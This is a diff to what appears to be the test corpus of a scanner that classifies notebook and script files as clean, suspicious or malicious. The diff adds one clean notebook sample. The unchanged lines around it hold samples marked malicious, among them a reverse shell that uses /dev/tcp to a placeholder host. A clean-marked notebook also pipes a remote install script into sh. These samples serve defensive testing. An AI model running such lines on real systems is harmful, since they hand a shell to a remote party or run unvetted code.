@@ -195,6 +195,7 @@ def documents(corpus):
     corpus.add("notebook/unusual.ipynb", SUSPICIOUS, notebook("import os\nos.system('weighin-tool')"), "a cell that starts an unusual program", "nobody knows what it does")
     corpus.add("notebook/honest.ipynb", CLEAN, notebook("%matplotlib inline\n!pip install torch\nimport os\nos.system('nvidia-smi')\nfiles = !ls\n", "%%bash\ncurl -fsSL https://example.com/install.sh | sh\n", "model.eval()\ndf.head?\n"), "an honest notebook with magics", "installing and looking around is what notebooks do")
     corpus.add("notebook/script-output.ipynb", CLEAN, json.dumps({"cells": [{"cell_type": "code", "source": ["1"], "metadata": {}, "outputs": [{"data": {"text/html": ["<script>1</script>"]}}]}], "metadata": {}, "nbformat": 4}), "an output with a script", "plots have them")
+    corpus.add("notebook/honest-inline.ipynb", CLEAN, notebook("rank = int(__import__('os').environ.get('RANK', 0))\nprint(__import__('sys').version.split())\n"), "a notebook that imports in the middle of a line", "a cell is code, not a value with code in it")
     corpus.add("script/model.bin", MALICIOUS, f"#!/bin/sh\n{COMMAND}\n", "a shell script named like a model", "whoever runs it runs commands")
     corpus.add("script/hostile.sh", MALICIOUS, f"#!/bin/bash\nbash -i >& /dev/tcp/{HOST}/9 0>&1\n", "a script that hands a shell away", "nothing else does this")
     setup = "echo \". /opt/conda/etc/profile.d/conda.sh\" >> ~/.bashrc"
